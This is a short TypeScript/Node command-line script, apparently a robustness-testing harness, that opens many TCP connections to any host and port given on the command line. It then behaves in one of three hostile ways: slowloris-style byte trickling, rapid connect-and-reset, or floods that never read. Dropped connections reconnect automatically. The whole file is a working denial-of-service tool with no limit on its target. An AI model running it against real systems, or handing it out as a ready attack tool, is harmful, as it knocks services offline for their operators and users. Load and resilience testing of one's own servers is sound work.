import { connect, type Socket } from 'node:net'

/**
 * Clients that do harm: `node crowd.js HOST PORT loris|reset|deaf COUNT`. `loris`: COUNT connections, each with a byte a second.
 * `reset`: COUNT connections a second, reset as soon as they have said something. `deaf`: COUNT connections that
 * send all they can and never read.
 */
const [, , host = '', port = '', how = '', count = '1'] = process.argv

function open(greet: (socket: Socket) => void): void {
  const socket = connect({ host, port: Number(port) })
  socket.on('error', () => undefined)
  socket.on('connect', () => greet(socket))
}

function loris(socket: Socket): void {
  const timer = setInterval(() => socket.write('x'), 1000)
  socket.on('close', () => {
    clearInterval(timer)
    setTimeout(() => open(loris), 500)
  })
  socket.resume()
}

function deaf(socket: Socket): void {
  const block = Buffer.alloc(65_536)
  const send = (): void => {
    while (socket.write(block));
  }
  socket.on('drain', send)
  socket.on('close', () => setTimeout(() => open(deaf), 500))
  socket.pause()
  send()
}

if (how === 'reset') {
  const each = Number(count) / 50
  setInterval(() => {
    for (let i = 0; i < each; i++) open((socket) => socket.write('x', () => socket.resetAndDestroy()))
  }, 20)
} else for (let i = 0; i < Number(count); i++) open(how === 'deaf' ? deaf : loris)
